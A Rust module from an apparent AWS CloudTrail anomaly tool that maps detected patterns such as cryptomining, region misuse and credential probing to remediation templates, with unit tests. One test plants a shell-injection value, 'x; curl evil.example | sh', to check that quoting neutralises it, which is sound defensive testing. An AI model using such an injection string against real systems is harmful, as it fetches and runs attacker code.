//! Recommendations: a rule table mapping patterns to concrete actions.
//! Rules are configuration (`[[insights.recommendations]]`); the defaults
//! cover cryptomining, region misuse, invoke storms, outages, volume
//! spikes and credential probing. Actions are templates: `{region}`,
//! `{account}`, `{principal}`, `{source_ip}`, `{instance_types}`,
//! `{ou}`, `{detector}`, `{function}` are filled from the insight.

use serde::{Deserialize, Serialize};
use trailhound_core::insight::{Correlation, Recommendation};
use trailhound_core::{Anomaly, AnomalyKind, Environment};

use crate::instance::is_accelerated;

/// When a rule applies; every condition that is set must hold.
#[derive(Clone, Debug, Default, PartialEq, Serialize, Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct RuleMatch {
    pub detectors: Vec<String>,
    /// Short service labels ("ec2", "lambda", "ebs", "iam", …).
    pub services: Vec<String>,
    pub kinds: Vec<AnomalyKind>,
    pub environments: Vec<Environment>,
    /// The window's instance types include a GPU/accelerated family.
    pub accelerated_instances: Option<bool>,
    /// The window's main principal is new to the account.
    pub new_principal: Option<bool>,
    /// The window's main source IP is new to the account.
    pub new_source_ip: Option<bool>,
    /// Error codes, by prefix ("AccessDenied", "Unauthorized").
    pub error_codes: Vec<String>,
    /// Part of an org-wide correlation.
    pub correlated: Option<bool>,
    /// Cost impact at least this many dollars over 30 days.
    pub min_usd_per_30_days: Option<f64>,
}

#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct RecommendationRule {
    pub name: String,
    #[serde(default)]
    pub when: RuleMatch,
    pub title: String,
    pub actions: Vec<String>,
}

/// What rules can look at besides the anomaly.
#[derive(Clone, Copy, Debug)]
pub struct Context<'a> {
    pub anomaly: &'a Anomaly,
    pub usd_per_30_days: f64,
    pub correlation: Option<&'a Correlation>,
}

fn top<'a>(a: &'a Anomaly, dim: &str) -> Option<&'a trailhound_core::Contributor> {
    a.top_contributors
        .iter()
        .filter(|c| c.dimension == dim)
        .max_by(|x, y| x.share.total_cmp(&y.share))
}

fn service_of(a: &Anomaly) -> &str {
    if !a.service.is_empty() {
        return &a.service;
    }
    a.detector.split('-').next().unwrap_or("")
}

impl RuleMatch {
    pub fn matches(&self, cx: &Context<'_>) -> bool {
        let a = cx.anomaly;
        let any = |list: &[String], v: &str| list.is_empty() || list.iter().any(|x| x == v);
        if !any(&self.detectors, &a.detector) || !any(&self.services, service_of(a)) {
            return false;
        }
        if !self.kinds.is_empty() && !self.kinds.contains(&a.kind) {
            return false;
        }
        if !self.environments.is_empty() && !self.environments.contains(&a.environment) {
            return false;
        }
        if let Some(want) = self.accelerated_instances {
            let has = a
                .top_contributors
                .iter()
                .any(|c| c.dimension == "instance_type" && is_accelerated(&c.value));
            if has != want {
                return false;
            }
        }
        if let Some(want) = self.new_principal
            && top(a, "principal").is_some_and(|c| c.is_new) != want
        {
            return false;
        }
        if let Some(want) = self.new_source_ip
            && top(a, "source_ip").is_some_and(|c| c.is_new) != want
        {
            return false;
        }
        if !self.error_codes.is_empty()
            && !a.top_contributors.iter().any(|c| {
                c.dimension == "error_code"
                    && self
                        .error_codes
                        .iter()
                        .any(|p| c.value.starts_with(p.as_str()))
            })
        {
            return false;
        }
        if let Some(want) = self.correlated
            && cx.correlation.is_some() != want
        {
            return false;
        }
        if let Some(min) = self.min_usd_per_30_days
            && cx.usd_per_30_days < min
        {
            return false;
        }
        true
    }
}

/// Fills `{name}` placeholders; unknown names stay as written.
fn fill(template: &str, cx: &Context<'_>) -> String {
    let a = cx.anomaly;
    let values = |dim: &str| {
        let v: Vec<&str> = a
            .top_contributors
            .iter()
            .filter(|c| c.dimension == dim)
            .map(|c| c.value.as_str())
            .collect();
        if v.is_empty() {
            format!("(no {dim} recorded)")
        } else {
            v.join(", ")
        }
    };
    let first = |dim: &str| {
        top(a, dim)
            .map(|c| c.value.clone())
            .unwrap_or_else(|| format!("(no {dim} recorded)"))
    };
    let account = if a.account_name.is_empty() {
        a.account_id.clone()
    } else {
        format!("{} ({})", a.account_name, a.account_id)
    };
    let ou = if a.ou_path.is_empty() {
        "the account's OU".to_string()
    } else {
        a.ou_path.join("/")
    };
    // Values that can land in a shell command are quoted when they hold
    // anything a shell interprets (a crafted user agent or role name
    // cannot add a command); ordinary ones read unchanged. Prose-only
    // values (account, OU) are made one plain line.
    use trailhound_core::text::{clean_line, shell_quote};
    template
        .replace("{region}", &shell_quote(&a.region))
        .replace("{account}", &clean_line(&account))
        .replace("{account_id}", &shell_quote(&a.account_id))
        .replace("{principal}", &shell_quote(&first("principal")))
        .replace("{source_ip}", &shell_quote(&first("source_ip")))
        .replace("{instance_types}", &shell_quote(&values("instance_type")))
        .replace("{function}", &shell_quote(&first("function")))
        .replace("{ou}", &clean_line(&ou))
        .replace("{detector}", &shell_quote(&a.detector))
}

/// The recommendations of every matching rule, in rule order, at most
/// `max`.
pub fn recommend(
    rules: &[RecommendationRule],
    cx: &Context<'_>,
    max: usize,
) -> Vec<Recommendation> {
    rules
        .iter()
        .filter(|r| r.when.matches(cx))
        .take(max)
        .map(|r| Recommendation {
            rule: r.name.clone(),
            title: fill(&r.title, cx),
            actions: r.actions.iter().map(|t| fill(t, cx)).collect(),
        })
        .collect()
}

fn rule(name: &str, when: RuleMatch, title: &str, actions: &[&str]) -> RecommendationRule {
    RecommendationRule {
        name: name.into(),
        when,
        title: title.into(),
        actions: actions.iter().map(|s| s.to_string()).collect(),
    }
}

/// The built-in rule table, most specific first.
pub fn default_rules() -> Vec<RecommendationRule> {
    vec![
        rule(
            "cryptomining",
            RuleMatch {
                detectors: vec!["ec2-run-instances".into()],
                accelerated_instances: Some(true),
                new_principal: Some(true),
                ..Default::default()
            },
            "Possible cryptomining: GPU instances launched by a principal new to {account}",
            &[
                "Stop the instances now: aws ec2 describe-instances --region {region} --filters Name=instance-type,Values={instance_types} then aws ec2 stop-instances --region {region} --instance-ids …",
                "Disable and rotate the credentials of {principal}; revoke its active sessions",
                "Review what {principal} did from {source_ip}: aws cloudtrail lookup-events --region {region} --lookup-attributes AttributeKey=Username,AttributeValue=…",
                "Add an SCP to {ou} that denies ec2:RunInstances for GPU families (ec2:InstanceType p*, g*, inf*, trn*)",
            ],
        ),
        rule(
            "gpu-launch",
            RuleMatch {
                detectors: vec!["ec2-run-instances".into()],
                accelerated_instances: Some(true),
                // A new principal is the cryptomining rule's case.
                new_principal: Some(false),
                ..Default::default()
            },
            "Unusual GPU instance launches in {account}",
            &[
                "Confirm with the owners of {principal} that the {instance_types} launch in {region} is intended",
                "If not, stop the instances and rotate the principal's credentials",
                "Consider an SCP or service quota that limits GPU instance types in {ou}",
            ],
        ),
        rule(
            "new-region",
            RuleMatch {
                kinds: vec![AnomalyKind::NewRegion],
                ..Default::default()
            },
            "Activity in {region}, a region {account} never used",
            &[
                "Check whether anyone in the team expects workloads in {region}",
                "If not, treat {principal} from {source_ip} as compromised: stop what it launched and rotate its credentials",
                "Restrict regions with an SCP on {ou} (aws:RequestedRegion)",
            ],
        ),
        rule(
            "ec2-launch-spike",
            RuleMatch {
                detectors: vec!["ec2-run-instances".into()],
                kinds: vec![AnomalyKind::Spike],
                ..Default::default()
            },
            "Instance launches far above normal in {account}",
            &[
                "Look for a runaway Auto Scaling group, CI job or Terraform apply by {principal}",
                "List what was launched: aws ec2 describe-instances --region {region} --filters Name=instance-state-name,Values=running",
                "Set a budget alarm or service quota for {region}",
            ],
        ),
        rule(
            "invoke-storm",
            RuleMatch {
                detectors: vec!["lambda-invoke".into()],
                kinds: vec![AnomalyKind::Spike],
                ..Default::default()
            },
            "Lambda invoke storm in {account}",
            &[
                "Check {function} for recursive invocation (a function writing to the queue, topic or bucket that triggers it)",
                "Cap it while you look: aws lambda put-function-concurrency --function-name … --reserved-concurrent-executions 10",
                "Check the event source mappings and retries of {function}",
            ],
        ),
        rule(
            "activity-stopped",
            RuleMatch {
                kinds: vec![AnomalyKind::Drop],
                ..Default::default()
            },
            "{detector} stopped in {account} {region}",
            &[
                "Check whether the workload was stopped or redeployed on purpose",
                "Check the event source, schedule or trigger that drives it, and recent IAM or SCP changes",
                "Check the service health dashboard for {region}",
            ],
        ),
        rule(
            "volume-spike",
            RuleMatch {
                detectors: vec!["ebs-create-volume".into()],
                kinds: vec![AnomalyKind::Spike],
                ..Default::default()
            },
            "EBS volumes created far above normal in {account}",
            &[
                "Check whether {principal} is restoring snapshots or running a backup job",
                "Find unattached volumes: aws ec2 describe-volumes --region {region} --filters Name=status,Values=available",
                "Check for snapshot sharing or copying to other accounts (possible exfiltration)",
            ],
        ),
        rule(
            "credential-probing",
            RuleMatch {
                error_codes: vec![
                    "AccessDenied".into(),
                    "UnauthorizedOperation".into(),
                    "Client.UnauthorizedOperation".into(),
                ],
                ..Default::default()
            },
            "Burst of denied calls in {account}: possible credential probing",
            &[
                "Identify the key behind {principal}; if it is not in use by a known system, deactivate it",
                "Check where {source_ip} is and whether GuardDuty has findings for it",
                "Review which permissions were probed and tighten the principal's policies",
            ],
        ),
        rule(
            "org-wide",
            RuleMatch {
                correlated: Some(true),
                ..Default::default()
            },
            "The same activity in several accounts",
            &[
                "Handle it as one incident across the accounts listed in the correlation",
                "Block {source_ip} at the organization level if it is not yours (SCP with aws:SourceIp)",
            ],
        ),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;
    use trailhound_core::{AccountMetadata, Contributor};

    fn contributor(dimension: &str, value: &str, share: f64, is_new: bool) -> Contributor {
        Contributor {
            dimension: dimension.into(),
            value: value.into(),
            count: 10,
            share,
            baseline_count: 0,
            is_new,
        }
    }

    /// A GPU launch in a sandbox account by `principal` (new or not).
    fn gpu_launch(principal_is_new: bool) -> Anomaly {
        let t = chrono::DateTime::from_timestamp(1_767_571_200, 0).unwrap_or_default();
        Anomaly {
            id: "a".into(),
            detector: "ec2-run-instances".into(),
            service: "ec2".into(),
            kind: AnomalyKind::Spike,
            account_id: "111122223333".into(),
            account_name: "sandbox-1".into(),
            environment: Environment::Sandbox,
            ou_path: vec!["Root".into(), "Sandbox".into()],
            region: "ap-south-1".into(),
            entity: Vec::new(),
            window_start: t,
            window_end: t,
            observed_until: t,
            actual: 40.0,
            expected: 0.0,
            features: Vec::new(),
            grade: 1.0,
            confidence: 0.9,
            score: 3.0,
            event_count: 40,
            top_contributors: vec![
                contributor(
                    "principal",
                    "arn:aws:iam::111122223333:user/miner",
                    0.9,
                    principal_is_new,
                ),
                contributor("source_ip", "203.0.113.66", 0.9, true),
                contributor("instance_type", "p4d.24xlarge", 0.7, false),
                contributor("instance_type", "g5.12xlarge", 0.3, false),
            ],
            detected_at: t,
            account: AccountMetadata::external("111122223333"),
        }
    }

    fn names(a: &Anomaly, usd: f64, max: usize) -> Vec<String> {
        let cx = Context {
            anomaly: a,
            usd_per_30_days: usd,
            correlation: None,
        };
        recommend(&default_rules(), &cx, max)
            .into_iter()
            .map(|r| r.rule)
            .collect()
    }

    #[test]
    fn gpu_launches_by_a_new_principal_are_cryptomining_by_a_known_one_not() {
        let by_new = names(&gpu_launch(true), 50_000.0, 10);
        assert_eq!(by_new.first().map(String::as_str), Some("cryptomining"));
        assert!(!by_new.iter().any(|r| r == "gpu-launch"), "{by_new:?}");
        let by_known = names(&gpu_launch(false), 50_000.0, 10);
        assert!(
            !by_known.iter().any(|r| r == "cryptomining"),
            "{by_known:?}"
        );
        assert!(by_known.iter().any(|r| r == "gpu-launch"), "{by_known:?}");
        // At most `max`, in rule order.
        assert_eq!(names(&gpu_launch(true), 50_000.0, 1), ["cryptomining"]);
    }

    #[test]
    fn conditions_that_are_set_must_all_hold() {
        let a = gpu_launch(true);
        let cx = |usd: f64| Context {
            anomaly: &a,
            usd_per_30_days: usd,
            correlation: None,
        };
        let m = RuleMatch {
            services: vec!["ec2".into()],
            environments: vec![Environment::Sandbox],
            min_usd_per_30_days: Some(1_000.0),
            ..Default::default()
        };
        assert!(m.matches(&cx(5_000.0)));
        assert!(!m.matches(&cx(10.0)), "below the cost floor");
        let production = RuleMatch {
            environments: vec![Environment::Production],
            ..m.clone()
        };
        assert!(!production.matches(&cx(5_000.0)));
        let correlated = RuleMatch {
            correlated: Some(true),
            ..m.clone()
        };
        assert!(!correlated.matches(&cx(5_000.0)), "no correlation here");
        let failing = RuleMatch {
            error_codes: vec!["AccessDenied".into()],
            ..m
        };
        assert!(!failing.matches(&cx(5_000.0)), "no error codes here");
    }

    #[test]
    fn templates_are_filled_and_shell_values_quoted() {
        let mut a = gpu_launch(true);
        // A crafted principal cannot add a command to an action.
        a.top_contributors[0].value = "x; curl evil.example | sh".into();
        let cx = Context {
            anomaly: &a,
            usd_per_30_days: 0.0,
            correlation: None,
        };
        let out = fill(
            "aws ec2 stop-instances --region {region}; disable {principal}; types {instance_types}; in {account} under {ou}; {unknown}",
            &cx,
        );
        assert_eq!(
            out,
            "aws ec2 stop-instances --region ap-south-1; disable 'x; curl evil.example | sh'; types 'p4d.24xlarge, g5.12xlarge'; in sandbox-1 (111122223333) under Root/Sandbox; {unknown}"
        );
        // Nothing recorded: said so, not left blank.
        a.top_contributors.clear();
        let cx = Context {
            anomaly: &a,
            usd_per_30_days: 0.0,
            correlation: None,
        };
        assert_eq!(fill("{source_ip}", &cx), "'(no source_ip recorded)'");
    }
}
